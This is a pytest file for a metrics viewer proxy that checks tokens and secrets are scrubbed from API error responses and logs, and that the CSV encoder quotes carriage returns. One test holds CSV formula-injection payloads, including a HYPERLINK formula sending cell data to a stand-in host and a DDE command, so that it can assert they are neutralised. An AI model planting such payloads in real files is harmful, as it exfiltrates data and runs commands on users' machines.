"""``metricrelay view``: no token on the page or in the log whatever the API answers, an
answer that is not the AI API's named as such, and a CSV a spreadsheet reads as drawn.

The proxy tests run the viewer application in process against a small scripted upstream (an
AI API plus a token service) on loopback, so they are fast and need neither Redis nor a
browser. The CSV tests run the page's own ``csvCell`` (extracted from runs.js) under Node.js.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import shutil
import subprocess
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer

from metricrelay.settings import Settings
from metricrelay.viewer.app import STATIC_DIR, build_app

FIXED = "fixed-review-token-0123456789"
ISSUED = "oauth-issued-token-abcdef987654"  # what the scripted token service hands out
SECRET = "review-client-secret-42"

# ---------------------------------------------------------------- a scripted upstream


Answer = Callable[[web.Request], web.StreamResponse]


@dataclass
class Upstream:
    """An AI API (``/v2/...``) whose answers a test scripts, and an OAuth token service."""

    answer: Answer = lambda request: web.json_response({"count": 0, "resources": []})
    seen: list[tuple[str, str, dict[str, str]]] = field(default_factory=list)

    async def token(self, request: web.Request) -> web.Response:
        return web.json_response({"access_token": ISSUED, "expires_in": 3600})

    async def api(self, request: web.Request) -> web.StreamResponse:
        self.seen.append((request.method, request.raw_path, dict(request.headers)))
        return self.answer(request)


@dataclass
class Harness:
    upstream: Upstream
    server: TestServer

    async def view(self, mode: str) -> TestClient:
        """A ``metricrelay view`` application with a fixed token or client credentials."""
        api_url = str(self.server.make_url("/v2"))
        if mode == "token":
            options = {"api_url": api_url, "token": FIXED}
        else:
            options = {
                "api_url": api_url,
                "auth_url": str(self.server.make_url("/oauth/token")),
                "client_id": "sb-review",
                "client_secret": SECRET,
            }
        client = TestClient(TestServer(build_app(Settings.from_sources(options, env={}))))
        await client.start_server()
        self._clients.append(client)
        return client

    _clients: list[TestClient] = field(default_factory=list)


@pytest.fixture
async def harness() -> AsyncIterator[Harness]:
    upstream = Upstream()
    app = web.Application()
    app.router.add_post("/oauth/token", upstream.token)
    app.router.add_route("*", "/v2/{tail:.*}", upstream.api)
    server = TestServer(app)
    await server.start_server()
    h = Harness(upstream, server)
    yield h
    for client in h._clients:
        await client.close()
    await server.close()


def _echo(status: int) -> Answer:
    """An AI API error that repeats the Authorization header it got (gateways do)."""

    def answer(request: web.Request) -> web.Response:
        auth = request.headers.get("Authorization", "")
        body = {"error": {"code": str(status), "message": f"request with {auth} refused"}}
        return web.json_response(body, status=status)

    return answer


def _tokens(mode: str) -> tuple[str, ...]:
    return (FIXED,) if mode == "token" else (ISSUED, SECRET)


# ---------------------------------------------------------------- the proxy: secrets


@pytest.mark.integration
@pytest.mark.parametrize("status", [401, 403])
async def test_oauth_token_scrubbed_from_401_403_messages(harness: Harness, status: int) -> None:
    """With client credentials the access token the proxy fetched is scrubbed too (it once
    scrubbed only the configured secrets): an API that echoes it does not put it on the page."""
    harness.upstream.answer = _echo(status)
    view = await harness.view("oauth")
    reply = await view.get("/v2/lm/executions")
    body = await reply.read()
    assert reply.status == status
    assert ISSUED.encode() not in body, body


@pytest.mark.integration
@pytest.mark.parametrize("mode", ["token", "oauth"])
@pytest.mark.parametrize("status", [400, 404, 500])
async def test_other_api_errors_are_scrubbed(harness: Harness, mode: str, status: int) -> None:
    """Errors other than 401/403 keep their status and the API's code, their message
    scrubbed of the token (they were once handed to the page verbatim)."""
    harness.upstream.answer = _echo(status)
    view = await harness.view(mode)
    reply = await view.get("/v2/lm/metrics", params={"executionIds": "run-a"})
    body = await reply.read()
    assert reply.status == status
    for secret in _tokens(mode):
        assert secret.encode() not in body, body


@pytest.mark.integration
async def test_api_error_logged_without_the_token(
    harness: Harness, caplog: pytest.LogCaptureFixture
) -> None:
    """The API's error message is logged scrubbed."""
    harness.upstream.answer = _echo(400)
    view = await harness.view("token")
    with caplog.at_level(logging.DEBUG, logger="metricrelay"):
        await view.get("/v2/lm/executions")
    assert any("HTTP 400" in r.getMessage() for r in caplog.records)
    for record in caplog.records:
        assert FIXED not in record.getMessage(), record.getMessage()


# ---------------------------------------------------------------- the proxy: odd answers


@pytest.mark.integration
async def test_a_2xx_answer_that_is_not_json_is_an_error(harness: Harness) -> None:
    """A 200 that is not JSON (a login page or web app at a wrong METRICRELAY_API_URL, a
    captive proxy) is an error naming the URL, not HTML served from the viewer's origin that
    the page cannot read."""
    harness.upstream.answer = lambda request: web.Response(
        text="<html><body>Sign in</body></html>", content_type="text/html"
    )
    view = await harness.view("token")
    reply = await view.get("/v2/lm/executions")
    assert reply.headers["Content-Type"].startswith("application/json")
    body = await reply.json()
    assert reply.status >= 400 and "error" in body
    assert "message" in body["error"]


# ---------------------------------------------------------------- the CSV (runs.js)


def _csv_cell() -> Callable[[list[Any]], list[str]]:
    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not on PATH: the CSV encoder of runs.js cannot be run")
    source = (STATIC_DIR / "runs.js").read_text()
    match = re.search(r"\n  function csvCell\(value\) \{.*?\n  \}\n", source, re.DOTALL)
    assert match, "csvCell not found in runs.js"
    program = (
        f"{match.group(0)}\n"
        "const input = JSON.parse(require('fs').readFileSync(0, 'utf8'));\n"
        "process.stdout.write(JSON.stringify(input.map(csvCell)));\n"
    )

    def run(values: list[Any]) -> list[str]:
        done = subprocess.run(
            [node, "-e", program],
            input=json.dumps(values),
            capture_output=True,
            text=True,
            timeout=30,
            check=True,
        )
        return list(json.loads(done.stdout))

    return run


def _csv(rows: list[list[Any]], cell: Callable[[list[Any]], list[str]]) -> str:
    # as renderCharts builds it: cells joined by ",", rows by "\n", a final "\n"
    return "".join(",".join(cell(row)) + "\n" for row in rows)


def test_csv_quotes_a_carriage_return() -> None:
    """A CR in a metric name or label value (both valid in the AI API) is quoted, so the row
    stays one row for Excel and Python's csv."""
    cell = _csv_cell()
    header = ["execution_id", "metric", "labels", "step", "timestamp", "value", "shown"]
    row = ["run-a", "loss\rval", "host=a\rb", 3, "2026-11-23T12:00:00Z", 0.5, 0.5]
    text = _csv([header, row], cell)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [header, [str(v) for v in row]]


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil.example/?"&A1,"loss")', "@SUM(A1)", "+cmd|' /C calc'!A0"]
)
def test_csv_neutralises_formulas(name: str) -> None:
    """A metric name (valid: it has a letter) beginning with ``=``, ``+``, ``-`` or ``@`` is
    kept as text in the CSV (a leading ``'``), not run as a formula by a spreadsheet."""
    (encoded,) = _csv_cell()([name])
    text = encoded[1:] if encoded.startswith('"') else encoded
    assert not text.startswith(("=", "+", "-", "@")), encoded
